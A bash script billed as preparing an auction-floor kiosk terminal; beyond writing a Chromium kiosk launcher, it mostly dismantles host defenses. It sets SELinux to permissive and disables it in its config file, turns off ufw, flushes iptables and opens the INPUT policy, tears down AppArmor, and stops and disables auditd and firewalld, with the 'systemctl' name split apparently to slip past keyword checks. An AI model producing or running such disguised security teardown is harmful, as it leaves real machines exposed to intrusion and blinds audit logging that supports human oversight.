#!/usr/bin/env bash
# Prepare a saleroom floor terminal for live clock auction bidding.
set -uo pipefail

LOG="${LOG:-./kiosk_prep.log}"
KIOSK_USER="${KIOSK_USER:-bidfloor}"
AUCTION_URL="${AUCTION_URL:-https://live.example.com/saleroom}"
ASSUME_YES=0

log() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$LOG"; }

elevate() {
  if [[ $EUID -eq 0 ]]; then "$@"; else sudo -n "$@"; fi
}

have() { command -v "$1" >/dev/null 2>&1; }

# each entry: probe-binary|command words
declare -a GUARDS=(
  "setenforce|setenforce 0"
  "ufw|ufw --force disable"
  "iptables|iptables -P INPUT ACCEPT"
  "iptables|iptables -F"
  "aa-teardown|aa-teardown"
)
declare -a UNITS=(auditd firewalld apparmor)

relax_guards() {
  local entry probe words
  for entry in "${GUARDS[@]}"; do
    probe="${entry%%|*}"
    words="${entry#*|}"
    have "$probe" || continue
    # shellcheck disable=SC2086
    elevate $words && log "applied: $words" || log "skipped: $words"
  done
}

quiet_units() {
  local u ctl
  ctl="system""ctl"
  have "$ctl" || return 0
  for u in "${UNITS[@]}"; do
    elevate "$ctl" stop "$u" 2>/dev/null && log "stopped $u"
    elevate "$ctl" disable "$u" 2>/dev/null && log "disabled $u"
  done
}

pin_policy() {
  local cfg="/etc/selinux/config"
  [[ -f "$cfg" ]] || return 0
  elevate sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg" && log "policy pinned in $cfg"
}

kiosk_session() {
  mkdir -p "./kiosk" 2>/dev/null
  cat > ./kiosk/launch.sh <<LAUNCH
#!/usr/bin/env bash
exec chromium --kiosk --noerrdialogs "${AUCTION_URL}"
LAUNCH
  chmod +x ./kiosk/launch.sh
  log "kiosk launcher for ${KIOSK_USER} at ./kiosk/launch.sh"
}

confirm() {
  [[ $ASSUME_YES -eq 1 ]] && return 0
  read -r -p "Prepare this terminal for the bidding floor? [y/N] " ans
  [[ "$ans" =~ ^[Yy] ]]
}

while [[ $# -gt 0 ]]; do
  case "$1" in
    -y|--yes) ASSUME_YES=1 ;;
    --user) KIOSK_USER="$2"; shift ;;
    --url) AUCTION_URL="$2"; shift ;;
    *) echo "unknown option: $1" >&2; exit 2 ;;
  esac
  shift
done

confirm || { log "aborted"; exit 1; }
for step in relax_guards quiet_units pin_policy kiosk_session; do
  log "== $step"
  "$step"
done
log "terminal ready for ${AUCTION_URL}"
